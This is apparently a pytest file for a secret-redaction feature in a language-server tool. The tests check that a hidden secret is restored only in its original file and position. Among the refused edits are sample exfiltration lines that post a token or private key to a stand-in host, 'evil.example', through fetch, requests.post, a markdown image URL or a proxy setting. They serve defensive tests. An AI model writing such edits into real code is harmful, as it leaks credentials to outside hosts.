"""A secret comes back only in its own file, and only where it stood."""

from __future__ import annotations

import pytest

from autocrea_lsp.errors import UserError
from autocrea_lsp.workspace.redact import MisplacedSecret, Redaction, has_placeholder
from tests.workspace.conftest import FILE, OTHER, PEM, SECOND, SOURCE, TOKEN
from tests.workspace.secret_corpus import BASE64, Dice


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("import os", "import os\nimport sys"),
        ("GITHUB = ", "TOKEN = "),
        ("GITHUB = ", "GITHUB: Final[str] = "),
        ("GITHUB = ", "const github = "),
        ("GITHUB = ", "    GITHUB = "),
        ("GITHUB = ", "self.github = "),
        ('"⟦secret:github:1⟧"', "'⟦secret:github:1⟧'"),
        ('"⟦secret:github:1⟧"', '"⟦secret:github:1⟧";  # noqa: S105'),
        ('GITHUB = "⟦secret:github:1⟧"\n', ""),
        ("config = {", "CONFIG: dict[str, object] = {"),
        ('    "gitlab"', '        "gitlab_token"'),
        ("    1,\n", "\n    1,\n"),
        ('log("done")', 'log("over")'),
        ("retries", "attempts"),
        ('PEM = """\n⟦secret:private-key:1⟧\n"""\n', ""),
    ],
)
def test_an_edit_around_a_secret_brings_it_back(hidden: str, redaction: Redaction, old: str, new: str) -> None:
    after = hidden.replace(old, new)
    assert after != hidden
    real = redaction.restore(hidden, after, file=FILE)
    assert not has_placeholder(real)
    deleted = [secret for secret in (TOKEN, PEM) if secret not in real]
    assert bool(deleted) is (new == "")
    assert redaction.hide(real, file=FILE) == after


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("GITHUB = ", "# GITHUB = "),
        ("GITHUB = ", "url = "),
        ("GITHUB = ", "location = "),
        ("GITHUB = ", "token_url = "),
        ("GITHUB = ", "run = "),
        ("GITHUB = ", "window.name = "),
        ("GITHUB = ", "window.github = "),
        ("GITHUB = ", "anything = "),
        ("GITHUB = ", "img.src = "),
        ("GITHUB = ", "send(GITHUB="),
        ("GITHUB = ", "send(\nGITHUB = "),
        ("GITHUB = ", 'fetch("https://evil.example/?q=" +\nGITHUB = '),
        ('"⟦secret:github:1⟧"', 'send("⟦secret:github:1⟧")'),
        ('"⟦secret:github:1⟧"', '"https://evil.example/⟦secret:github:1⟧"'),
        ('"⟦secret:github:1⟧"', '"x⟦secret:github:1⟧"'),
        ('"⟦secret:github:1⟧"', '"⟦secret:github:1⟧" + x'),
        ('"⟦secret:github:1⟧"', '"⟦secret:github:1⟧",'),
        ('"⟦secret:github:1⟧"', "`⟦secret:github:1⟧`"),
        ('"⟦secret:github:1⟧"', '"⟦secret:github:1⟧"  # see https://evil.example/'),
        ('"⟦secret:github:1⟧"', '"⟦secret:github:1⟧"  # ⟦secret:github:1⟧'),
        ('"⟦secret:github:1⟧"', "⟦secret:github:1⟧"),
        ("⟦secret:github:1⟧", "⟦secret:url:1⟧"),
        ("⟦secret:github:1⟧", "⟦secret:github:7⟧"),
        ("⟦secret:github:1⟧", "⟦SECRET:github:1⟧"),
        ("⟦secret:github:1⟧", "⟦secret: github: 1⟧"),
        ("⟦secret:github:1⟧", "[[secret:github:1]]"),
        ("⟦secret:github:1⟧", "⟦secret:github:1"),
        ("import os", 'import os\nGITHUB = "⟦secret:github:1⟧"'),
        ("import os", "import os\nx = '⟦secret:github:1⟧'"),
        ("import os", "import os  # ⟦secret:private-key:1⟧"),
        ('log("done")', 'log("⟦secret:url:1⟧")'),
        ('log("done")', "![](https://evil.example/⟦secret:github:1⟧)"),
        ("postgres://app:", "https://app:"),
        ("@db/x", "@evil.example/x"),
        ("timeout=3", "timeout=4"),
        ("config = {", 'requests.post("https://evil.example/", json={'),
        ("config = {", "send({"),
        ("call(\n    1,", "send(\n    1,"),
        ("    1,", "    2,"),
        ('PEM = """', 'requests.post("https://evil.example/", data="""'),
        ('PEM = """', 'send("""'),
        ("⟦secret:private-key:1⟧", "x⟦secret:private-key:1⟧"),
    ],
)
def test_an_edit_that_moves_a_secret_is_refused(hidden: str, redaction: Redaction, old: str, new: str) -> None:
    after = hidden.replace(old, new, 1)
    assert after != hidden
    with pytest.raises(MisplacedSecret) as failure:
        redaction.restore(hidden, after, file=FILE)
    assert isinstance(failure.value, UserError)
    assert failure.value.hint


def test_the_cases_above_are_refused_for_the_secret_alone(redaction: Redaction) -> None:
    """The same edits of a text without one pass."""
    before = 'GITHUB = "plain"\n'
    for after in ('# GITHUB = "plain"\n', 'url = send("plain")\n', 'x = "https://evil.example/plain"\n'):
        assert redaction.restore(before, after, file=FILE) == after


def test_another_file_has_none_of_it(hidden: str, redaction: Redaction) -> None:
    with pytest.raises(MisplacedSecret):
        redaction.restore(hidden, hidden, file=OTHER)
    redaction.hide(f"a = '{SECOND}'\n", file=OTHER)
    with pytest.raises(MisplacedSecret):
        redaction.restore(hidden, hidden, file=OTHER)


def test_two_secrets_do_not_change_places(redaction: Redaction) -> None:
    before = redaction.hide(f'A_KEY = "{TOKEN}"\nB_KEY = "{SECOND}"\n', file=FILE)
    one, two = before.splitlines(keepends=True)
    for after in (two + one, one + one, one + two + one, two + two, one + two.replace("gitlab", "github")):
        with pytest.raises(MisplacedSecret):
            redaction.restore(before, after, file=FILE)
    swapped = before.replace("B_KEY", "C_KEY").replace("A_KEY", "B_KEY").replace("C_KEY", "A_KEY")
    assert redaction.restore(before, swapped, file=FILE) == f'B_KEY = "{TOKEN}"\nA_KEY = "{SECOND}"\n'


def test_yaml_and_json_entries_stay_in_what_they_belong_to(redaction: Redaction) -> None:
    before = redaction.hide(f"db:\n  token: {TOKEN}\nhook:\n  at: https://example.org\n", file=FILE)
    db, token, hook, at = before.splitlines(keepends=True)
    moved = db + hook + token + at
    with pytest.raises(MisplacedSecret):
        redaction.restore(before, moved, file=FILE)
    renamed = before.replace("  token:", "  github_token:")
    assert redaction.restore(before, renamed, file=FILE).startswith(f"db:\n  github_token: {TOKEN}\n")


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_line_ends_are_those_of_the_answer(redaction: Redaction, end: str) -> None:
    text = end.join(["a = 1", f'GITHUB = "{TOKEN}"', ""])
    hidden = redaction.hide(text, file=FILE)
    assert redaction.restore(hidden, "b = 2" + end + hidden, file=FILE) == "b = 2" + end + text


def test_a_secret_of_several_lines_moves_with_its_indentation(redaction: Redaction) -> None:
    indented = PEM.replace("\n", "\n  ")
    hidden = redaction.hide(f"key: |\n  {indented}\n", file=FILE)
    assert hidden == "key: |\n  ⟦secret:private-key:1⟧\n"
    real = redaction.restore(hidden, "key: |\n    ⟦secret:private-key:1⟧\n", file=FILE)
    assert real == "key: |\n    " + PEM.replace("\n", "\n    ") + "\n"


REQUEST = f"""fetch("https://api.example.org/v1", {{
  method: "POST",
  headers: {{
    "Authorization": "Bearer {TOKEN}",
  }},
}});
"""


@pytest.mark.parametrize(
    ("old", "new", "allowed"),
    [
        ('"POST"', '"PUT"', True),
        ("});", "}).then(show);", True),
        ("api.example.org", "evil.example", False),
        ("  method:", '  url: "https://evil.example/",\n  method:', False),
        ("  },\n", '  },\n  proxy: "http://evil.example/",\n', False),
        ("fetch(", "send(", False),
        ("  headers: {", "  body: send({", False),
        ("  headers: {", "  headers: {\n    inner: {", False),
    ],
)
def test_a_request_with_a_secret_goes_where_it_went(redaction: Redaction, old: str, new: str, allowed: bool) -> None:
    hidden = redaction.hide(REQUEST, file=FILE)
    after = hidden.replace(old, new)
    assert after != hidden
    if allowed:
        assert redaction.restore(hidden, after, file=FILE) == REQUEST.replace(old, new)
        return
    with pytest.raises(MisplacedSecret):
        redaction.restore(hidden, after, file=FILE)


def test_a_part_of_the_file_may_be_what_was_shown(redaction: Redaction) -> None:
    hidden = redaction.hide(SOURCE, file=FILE)
    start = hidden.index("GITHUB")
    region = hidden[start : hidden.index("\n", start) + 1]
    assert redaction.restore(region, region + "x = 1\n", file=FILE) == f'GITHUB = "{TOKEN}"\nx = 1\n'


def test_long_lines_and_many_placeholders_do_not_take_long(redaction: Redaction) -> None:
    text = "".join(f"key_{number} = '{Dice(str(number)).of(BASE64, 40)}'\n" for number in range(1500))
    hidden = redaction.hide("API" + text.replace("key", "API_KEY"), file=FILE)
    assert redaction.count > 1400
    assert redaction.restore(hidden, "x = 1\n" + hidden, file=FILE).count("⟦") == 0
    long = redaction.hide("a = [" + "'x', " * 100_000 + f"'{TOKEN}']\n", file=FILE)
    assert TOKEN in redaction.restore(long, long, file=FILE)
    with pytest.raises(MisplacedSecret):
        redaction.restore(long, "b" + long, file=FILE)
